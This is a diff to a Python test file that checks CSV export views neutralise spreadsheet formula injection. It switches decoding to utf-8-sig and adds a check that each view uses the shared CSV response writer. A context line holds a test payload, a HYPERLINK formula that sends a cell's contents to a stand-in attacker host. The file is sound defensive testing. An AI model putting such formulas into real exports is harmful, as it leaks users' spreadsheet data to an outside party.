@@ -21,7 +21,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 def _csv_rows(response):
     assert response["Content-Type"].startswith("text/csv")
-    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
 
 
 @pytest.mark.parametrize(
@@ -113,3 +113,4 @@ def test_every_admin_export_view_writes_its_cells_through_the_neutralised_method
         assert view.preprocess_field_value is SpreadsheetExportMixin.preprocess_field_value, view
         assert view.write_csv_row is SpreadsheetExportMixin.write_csv_row, view
         assert view.stream_csv is SpreadsheetExportMixin.stream_csv, view
+        assert view.write_csv_response is SpreadsheetExportMixin.write_csv_response, view  # charset and BOM
